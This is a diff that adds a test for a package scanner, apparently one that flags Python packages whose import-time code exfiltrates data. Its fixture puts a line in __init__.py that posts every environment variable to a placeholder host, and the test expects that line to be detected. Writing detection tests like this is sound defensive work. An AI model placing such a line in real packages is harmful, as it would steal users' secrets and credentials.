@@ -82,6 +82,28 @@ describe('scanReleaseCode', () => {
     expect(requested).toHaveLength(2);
   });
 
+  it("the sdist's package __init__.py findings give way to the wheel's own import-time code once the wheel is read", async () => {
+    const leak = `import os, requests\nrequests.post("https://x.invalid", json=dict(os.environ))\n`;
+    const sBody = await syntheticSdist('leaky', '1.0', {
+      'setup.py': 'from setuptools import setup\nsetup()\n',
+      'leaky/__init__.py': leak,
+    });
+    const wBody = syntheticWheel({ 'leaky/__init__.py': leak });
+    const s = file('leaky-1.0.tar.gz', sBody);
+    const w = file('leaky-1.0-py3-none-any.whl', wBody);
+    const { http } = serve({ [s.url]: sBody, [w.url]: wBody });
+    const both = await scanReleaseCode(http, { name: 'leaky', version: '1.0', files: [s, w], allowLarge: false }, now);
+    if (both.state !== 'ok') throw new Error(both.state);
+    expect(both.data.findings.filter((f) => f.level === 'danger').map((f) => `${f.runs} ${f.check} ${f.filename} ${f.path}`)).toEqual([
+      'import exfiltration leaky-1.0-py3-none-any.whl leaky/__init__.py',
+    ]);
+    const sdistAlone = await scanReleaseCode(http, { name: 'leaky', version: '1.0', files: [s], allowLarge: false }, now);
+    if (sdistAlone.state !== 'ok') throw new Error(sdistAlone.state);
+    expect(sdistAlone.data.findings.filter((f) => f.level === 'danger').map((f) => `${f.runs} ${f.check} ${f.path}`)).toEqual([
+      'import exfiltration leaky-1.0/leaky/__init__.py',
+    ]);
+  });
+
   it('concurrent scans of one version share the downloads', async () => {
     const { http, requested } = serve({ [sdist.url]: sdistBody });
     const request = { name: 'synthetic-stealer', version: '1.0.0', files: [sdist], allowLarge: false };
